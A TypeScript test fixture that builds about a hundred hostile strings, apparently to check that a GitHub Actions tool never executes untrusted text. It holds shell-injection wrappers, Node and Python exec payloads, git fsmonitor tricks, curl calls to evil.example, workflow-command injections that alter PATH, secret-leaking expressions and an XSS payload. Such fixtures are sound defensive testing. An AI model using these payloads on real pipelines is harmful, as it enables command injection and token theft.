// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions of workflows are written like this
/**
 * @module A hundred texts that are commands, if anybody lets them: to a shell, to JavaScript, to the runner of Actions, to expressions.
 */

/**
 * @param canary a file that comes to be where one of them is obeyed
 * @returns a hundred texts, each its own
 */
export function hostileTexts(canary: string): readonly string[] {
  const touch = (name: string) => `touch ${canary}-${name}`;
  const shells = [
    (it: string) => `"; ${it} #`,
    (it: string) => `'; ${it} #`,
    (it: string) => `$(${it})`,
    (it: string) => `\`${it}\``,
    (it: string) => `\n${it}\n`,
    (it: string) => `\r\n${it}\r\n`,
    (it: string) => `| ${it}`,
    (it: string) => `&& ${it}`,
    (it: string) => `|| ${it} ||`,
    (it: string) => `& ${it} &`,
    (it: string) => `"\n${it}\n"`,
    (it: string) => `' "$(${it})" '`,
    (it: string) => `\${x:-$(${it})}`,
    (it: string) => `$(${it.replaceAll(" ", "${IFS}")})`,
    (it: string) => `EOF\n${it}\nEOF`,
    (it: string) => `%0A${it}%0A`,
    (it: string) => `\\"; ${it}; \\"`,
    (it: string) => `>(${it})`,
    (it: string) => `--output=$(${it})`,
    (it: string) => `-c core.fsmonitor='${it}'`,
    (it: string) => `--upload-pack=${it}`,
    (it: string) => `"; require("child_process").execSync("${it}"); "`,
    (it: string) => `\${process.mainModule.require("child_process").execSync("${it}")}`,
    (it: string) => `__import__("os").system("${it}")`,
    (it: string) => `() { :;}; ${it}`,
  ].flatMap((wrap, at) => [wrap(touch(`a${at}`)), wrap(`curl https://evil.example/${at}`)]);
  const commands = [
    "::set-output name=x::y",
    "::set-env name=PATH::/tmp/evil",
    "::add-path::/tmp/evil",
    "::add-mask::metrics",
    "::add-matcher::/tmp/evil.json",
    "::save-state name=x::y",
    "::stop-commands::x",
    "::x::",
    "::error file=a,line=1::broken",
    "::warning title=hubstead::look here",
    "::notice::free money",
    "::debug::x",
    "::group::x",
    "::endgroup::",
    "::echo::on",
    "##[set-output name=x]y",
    "##[set-env name=PATH;]/tmp/evil",
    "##[add-path]/tmp/evil",
    "##[command]touch",
    "##[error]broken",
  ].flatMap((command) => [command, `harmless\n${command}\nharmless`]);
  const expressions = [
    "${{ secrets.GITHUB_TOKEN }}",
    "${{ github.token }}",
    "${{ toJSON(env) }}",
    "\u001b]0;title\u0007\u001b[2J::error::x",
    "\u2028::error::x",
    "\r::error::x",
    "  ::error::x",
    "![x](https://evil.example/x) <img src=x onerror=alert(1)> @ada #1",
    "GITHUB_TOKEN=x\nPATH=/tmp/evil",
    "a=b<<EOF\nc\nEOF",
  ];
  return [...shells, ...commands, ...expressions];
}
